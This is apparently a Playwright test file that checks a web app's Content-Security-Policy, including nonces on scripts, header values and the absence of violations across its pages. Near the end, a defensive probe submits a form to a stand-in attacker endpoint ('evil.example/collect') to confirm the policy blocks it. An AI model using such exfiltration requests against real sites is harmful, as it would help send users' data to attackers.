import { expect, test, type Page, type Response } from './fixtures';
import { newPerson } from './helpers';

// The demo organization the server seeds at start (server/demo/seed.ts).
const ORG = 'polar-supply-demo';
const DEMO_PASSWORD = 'rung-demo-2026';

declare global {
  interface Window {
    cspViolations: string[];
  }
}

/**
 * Records every Content-Security-Policy violation the page reports, from the first byte on
 * (an init script runs before the page's own scripts), plus the browser's console errors about
 * the policy, which also cover what was refused before any listener could run.
 */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  const consoleErrors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) consoleErrors.push(message.text());
  });
  await page.addInitScript(() => {
    window.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.cspViolations.push(`${event.violatedDirective} blocked ${event.blockedURI || 'inline'} at ${location.pathname}`);
    });
  });
  return async () => [...consoleErrors, ...(await page.evaluate(() => window.cspViolations))];
}

/** The nonce of a page's response, after checking the policy is the one lib/security-headers.ts builds. */
function nonceOf(response: Response | null): string {
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).not.toContain('unsafe-eval');
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
  expect(nonce, 'the policy carries a nonce').toBeTruthy();
  return nonce!;
}

/**
 * Every script in the HTML the server sent carries this response's nonce (Next.js applied it).
 * Scripts that those load later need none: 'strict-dynamic' trusts them.
 */
async function expectScriptsCarry(response: Response | null, nonce: string) {
  const tags = (await response!.text()).match(/<script\b[^>]*>/g) ?? [];
  expect(tags.length).toBeGreaterThan(0);
  expect(tags.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
}

/** Opens a page and waits until it is rendered and hydrated. */
async function open(page: Page, path: string, ready: () => Promise<void>) {
  const response = await page.goto(path);
  expect(response?.status(), path).toBeLessThan(400);
  await ready();
  await page.waitForLoadState('networkidle');
  return { response, nonce: nonceOf(response) };
}

test('every main page renders and runs with zero Content-Security-Policy violations', async ({ browser }) => {
  const page = await newPerson(browser);
  const violations = await watchViolations(page);

  const signIn = await open(page, '/sign-in', () => expect(page.locator('input[type="email"]')).toBeVisible());
  await expectScriptsCarry(signIn.response, signIn.nonce);
  await open(page, '/sign-up', () => expect(page.getByRole('button', { name: 'Create account' })).toBeVisible());
  await page.goto('/sign-in');
  await page.locator('input[type="email"]').fill('demo@rung.example');
  await page.locator('input[type="password"]').fill(DEMO_PASSWORD);
  await page.locator('button[type="submit"]').click();
  await page.waitForURL((url) => url.pathname.startsWith(`/${ORG}/`));

  const dashboard = await open(page, `/${ORG}/dashboard`, () => expect(page.getByRole('heading', { level: 1 })).toBeVisible());
  expect(dashboard.nonce).not.toBe(signIn.nonce);
  await expectScriptsCarry(dashboard.response, dashboard.nonce);
  // Ready once the list has rows: the heading shows before they arrive.
  await open(page, `/${ORG}/accounts`, () => expect(page.locator('table tbody tr a').first()).toBeVisible());
  // The first link to an account itself (the header also links to the import page).
  const accountLinks = await page
    .locator(`a[href^="/${ORG}/accounts/"]`)
    .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
  const accountPath = accountLinks.find((href) => /\/accounts\/[0-9a-f-]{36}$/.test(href));
  // The account page holds the live-update stream (server-sent events, connect-src 'self').
  await open(page, accountPath!, () => expect(page.getByRole('button', { name: 'Ask for a confirmation' })).toBeVisible());
  for (const path of ['settings', 'settings/members', 'settings/outbox', 'settings/audit', 'campaigns', 'actions']) {
    await open(page, `/${ORG}/${path}`, () => expect(page.getByRole('heading', { level: 1 })).toBeVisible());
  }

  // A customer link, opened by the customer in a browser without the team's cookies.
  await page.goto(accountPath!);
  await page.getByRole('button', { name: 'Ask for a confirmation' }).click();
  const ask = page.getByRole('dialog', { name: 'Ask the customer' });
  await ask.getByRole('button', { name: 'Create link' }).click();
  const link = new URL(await ask.getByLabel('Confirmation link').inputValue()).pathname;
  expect(await violations()).toEqual([]);

  const customer = await newPerson(browser);
  const customerViolations = await watchViolations(customer);
  const response = await customer.goto(link);
  expect(response?.headers()['referrer-policy']).toBe('no-referrer');
  expect(response?.headers()['x-content-type-options']).toBe('nosniff');
  // Plain http on 127.0.0.1: HSTS would pin the address to a port nobody serves HTTPS on.
  expect(response?.headers()['strict-transport-security']).toBeUndefined();
  await expectScriptsCarry(response, nonceOf(response));
  await customer.getByRole('radio').first().check();
  // The form posts to its own origin (form-action 'self') and lands on the thank-you page.
  await customer.getByRole('button', { name: /Send my answer/ }).click();
  await expect(customer.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
  expect(await customerViolations()).toEqual([]);

  // The watch itself works: on a fresh page under the same policy, a form that posts to another
  // site (form-action 'self') is refused and reported, so the empty lists above mean something.
  // (Code run through page.evaluate is exempt from script-src, so the probe is a form, not eval.)
  const probe = await newPerson(browser);
  const probeViolations = await watchViolations(probe);
  nonceOf(await probe.goto(link));
  await probe.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/collect';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(async () => (await probeViolations()).join('\n')).toContain('form-action');
  expect(new URL(probe.url()).pathname).toBe(link);
});
